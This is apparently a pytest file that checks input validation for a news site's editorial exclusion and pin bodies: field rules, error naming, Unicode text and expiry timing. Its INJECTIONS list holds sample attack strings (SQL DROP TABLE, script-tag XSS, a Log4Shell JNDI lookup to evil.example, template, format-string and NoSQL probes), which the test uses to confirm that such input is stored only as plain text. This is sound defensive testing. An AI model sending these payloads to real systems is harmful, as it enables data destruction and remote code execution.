"""The editorial bodies (exclusions and pins): every field's rule, with the offending field named."""

from __future__ import annotations

from typing import Any

import pytest
from mostread.editorial_models import Exclusion, ExclusionIn, Pin, PinIn
from mostread.errors import ClientError
from mostread.models import validate
from mostread.services.editorial import entry_document, in_force

UNTIL = "2026-12-01T00:00:00+09:00"
UNTIL_TS = 1_796_050_800.0
PIN = {"kind": "most_read", "window": "24h", "section": "sports", "position": 3, "until": UNTIL}
KOREAN_REASON = "법원 게재 금지 가처분 — 「서울」 기사 🚫 한글 ＜전각＞\t탭"
INJECTIONS = [
    "'; DROP TABLE views; --",
    '<script>alert("x")</script>',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %n",
    '{"$ne": null}',
    "attribute_exists(pk) OR 1=1",
    "\\u0000 \\n not a control character",
]


def rejected(model: type, body: Any) -> ClientError:
    with pytest.raises(ClientError) as caught:
        validate(model, body)
    assert caught.value.status == 400
    assert caught.value.body()["error"]["message"]
    return caught.value


# --- exclusions --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [{}, {"until": None, "reason": None}, {"until": UNTIL}, {"reason": "요청"}, {"until": "2026-12-01T00:00:00Z"}],
)
def test_exclusion_fields_are_optional(body):
    exclusion = validate(ExclusionIn, body)
    assert exclusion.model_dump() == {"until": None, "reason": None, **body}


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"until": "2026-12-01T00:00:00"}, "until"),  # no offset
        ({"until": "2026-12-01"}, "until"),
        ({"until": "tomorrow"}, "until"),
        ({"until": "2026-13-01T00:00:00+09:00"}, "until"),
        ({"until": "2026-12-01T00:00:00+24:00"}, "until"),
        ({"until": 1_764_514_800}, "until"),
        ({"until": True}, "until"),
        ({"until": ["2026-12-01T00:00:00Z"]}, "until"),
        ({"until": "2026-12-01T00:00:00+09:00" + " " * 64}, "until"),
        ({"reason": 1}, "reason"),
        ({"reason": ["a"]}, "reason"),
        ({"reason": {"text": "a"}}, "reason"),
        ({"reason": "x" * 501}, "reason"),
        ({"reason": "null\x00byte"}, "reason"),
        ({"reason": "bell\x07"}, "reason"),
        ({"reason": "lone \ud800 surrogate"}, "reason"),
    ],
)
def test_bad_exclusion_fields_are_named(body, field):
    error = rejected(ExclusionIn, body)
    assert (error.code, error.field) == ("invalid_field", field)
    assert error.message.startswith(f"{field}: ")


def test_exclusion_body_must_be_an_object():
    assert rejected(ExclusionIn, ["until"]).field is None


def test_korean_reason_round_trips_exactly():
    exclusion = validate(ExclusionIn, {"reason": KOREAN_REASON, "until": None})
    assert exclusion.reason == KOREAN_REASON
    assert validate(ExclusionIn, {"reason": "x" * 500}).reason == "x" * 500


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_are_plain_text(text):
    assert validate(ExclusionIn, {"reason": text}).reason == text


def test_exclusion_until_ts():
    assert Exclusion(article_id="a", until=UNTIL).until_ts == UNTIL_TS
    assert Exclusion(article_id="a", until="2026-11-30T15:00:00Z").until_ts == UNTIL_TS
    assert Exclusion(article_id="a").until_ts is None


def test_unknown_fields_are_ignored():
    assert validate(ExclusionIn, {"reason": "r", "article_id": "other", "x": 1}).model_dump() == {
        "until": None,
        "reason": "r",
    }
    assert validate(PinIn, {**PIN, "article_id": "other", "x": [1]}).model_dump() == PIN


# --- pins --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "window"),
    [("most_read", "1h"), ("most_read", "24h"), ("most_read", "7d"), ("trending", "1h"), ("trending", "24h")],
)
def test_every_window_of_each_kind(kind, window):
    pin = validate(PinIn, {**PIN, "kind": kind, "window": window})
    assert (pin.kind, pin.window) == (kind, window)


@pytest.mark.parametrize("position", [1, 2, 49, 50])
def test_positions_one_to_fifty(position):
    assert validate(PinIn, {**PIN, "position": position}).position == position


def test_section_may_be_null_or_absent():
    assert validate(PinIn, {**PIN, "section": None}).section is None
    body = {name: value for name, value in PIN.items() if name != "section"}
    assert validate(PinIn, body).section is None


@pytest.mark.parametrize("field", ["kind", "window", "position", "until"])
def test_required_pin_fields(field):
    body = {name: value for name, value in PIN.items() if name != field}
    error = rejected(PinIn, body)
    assert (error.code, error.field) == ("missing_field", field)


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"kind": "most-read"}, "kind"),
        ({"kind": "TRENDING"}, "kind"),
        ({"kind": None}, "kind"),
        ({"kind": 1}, "kind"),
        ({"window": "7d", "kind": "trending"}, "window"),  # trending lists have no 7d window
        ({"window": "30d"}, "window"),
        ({"window": "24H"}, "window"),
        ({"window": 24}, "window"),
        ({"window": None}, "window"),
        ({"section": "Sports"}, "section"),
        ({"section": ""}, "section"),
        ({"section": "스포츠"}, "section"),
        ({"section": "a/b"}, "section"),
        ({"section": "x" * 65}, "section"),
        ({"section": 1}, "section"),
        ({"position": 0}, "position"),
        ({"position": 51}, "position"),
        ({"position": -1}, "position"),
        ({"position": "1"}, "position"),
        ({"position": 1.5}, "position"),
        ({"position": 1.0}, "position"),
        ({"position": True}, "position"),
        ({"position": None}, "position"),
        ({"until": None}, "until"),  # a pin always ends
        ({"until": "2026-12-01T00:00:00"}, "until"),  # no offset
        ({"until": "2026-12-01"}, "until"),
        ({"until": "soon"}, "until"),
        ({"until": 1_764_514_800}, "until"),
    ],
)
def test_bad_pin_fields_are_named(change, field):
    error = rejected(PinIn, {**PIN, **change})
    assert (error.code, error.field) == ("invalid_field", field)


def test_a_bad_kind_is_reported_on_kind_not_window():
    assert rejected(PinIn, {**PIN, "kind": "popular", "window": "7d"}).field == "kind"


def test_pin_until_ts():
    assert Pin(article_id="a", **PIN).until_ts == UNTIL_TS


# --- what the service derives from them --------------------------------------------------------------


def test_in_force_until_strictly_after_now():
    forever = Exclusion(article_id="a", until=None)
    ends = Exclusion(article_id="a", until=UNTIL)
    pin = Pin(article_id="a", **PIN)
    assert in_force(forever, 0) and in_force(forever, 1e12)
    assert in_force(ends, UNTIL_TS - 0.001)
    assert not in_force(ends, UNTIL_TS)  # until <= now is expired
    assert in_force(pin, UNTIL_TS - 1) and not in_force(pin, UNTIL_TS + 1)


def test_entry_documents_lead_with_the_article_id():
    exclusion = entry_document(Exclusion(article_id="a", until=None, reason=KOREAN_REASON))
    assert exclusion == {"article_id": "a", "until": None, "reason": KOREAN_REASON}
    assert next(iter(exclusion)) == "article_id"
    assert entry_document(Pin(article_id="b", **PIN)) == {"article_id": "b", **PIN}
